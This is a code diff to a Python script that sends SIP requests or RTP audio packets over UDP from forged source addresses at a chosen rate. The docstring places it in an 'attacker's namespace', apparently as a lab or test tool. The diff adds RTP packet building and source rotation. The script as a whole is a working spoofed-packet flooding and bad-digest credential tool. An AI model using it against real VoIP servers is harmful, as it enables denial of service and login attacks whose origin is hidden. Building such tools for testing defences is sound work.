@@ -1,7 +1,8 @@
 """Sends SIP requests over UDP from addresses that are not the sender's own, at a rate; run as root in the attacker's namespace.
 
-Reads one JSON order from standard input: sources, sourcePort (0: another one each time), target, port, method, count, rate
-(packets a second), credentials (whether each carries a wrong digest). Prints JSON: sent, seconds.
+Reads one JSON order from standard input: sources, sourcePort (0: another one each time), target, port, method (RTP: a packet of
+audio instead), count, rate (packets a second), credentials (whether each carries a wrong digest), inTurn (each source once, instead
+of any). Prints JSON: sent, seconds.
 """
 
 from __future__ import annotations
@@ -36,10 +37,15 @@ def request(order: dict[str, Any], source: str, port: int, number: int) -> bytes
     return ("\r\n".join([*lines, "Content-Length: 0"]) + "\r\n\r\n").encode()
 
 
+def audio(number: int) -> bytes:
+    """20 ms of G.711 (RFC 3550, RFC 3551)."""
+    return struct.pack("!BBHII", 0x80, 0, number & 0xFFFF, number * 160, 7) + b"\xff" * 160
+
+
 def packet(order: dict[str, Any], source: str, number: int) -> bytes:
     """With IP and UDP headers; the kernel fills in the IP checksum, and a UDP checksum of 0 means none."""
     port = order["sourcePort"] or random.randrange(1024, 65536)  # noqa: S311 - a port, no secret
-    body = request(order, source, port, number)
+    body = audio(number) if order["method"] == "RTP" else request(order, source, port, number)
     datagram = struct.pack("!4H", port, order["port"], 8 + len(body), 0) + body
     ends = socket.inet_aton(source) + socket.inet_aton(order["target"])
     return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), number & 0xFFFF, 0, 64, 17, 0) + ends + datagram
@@ -54,7 +60,9 @@ def main() -> None:
             early = number / order["rate"] - (time.monotonic() - started)
             if early > 0.002:
                 time.sleep(early)
-            line.sendto(packet(order, random.choice(order["sources"]), number), (order["target"], 0))  # noqa: S311
+            sources = order["sources"]
+            source = sources[number % len(sources)] if order.get("inTurn") else random.choice(sources)  # noqa: S311
+            line.sendto(packet(order, source, number), (order["target"], 0))
     print(json.dumps({"sent": order["count"], "seconds": round(time.monotonic() - started, 2)}))
 
 
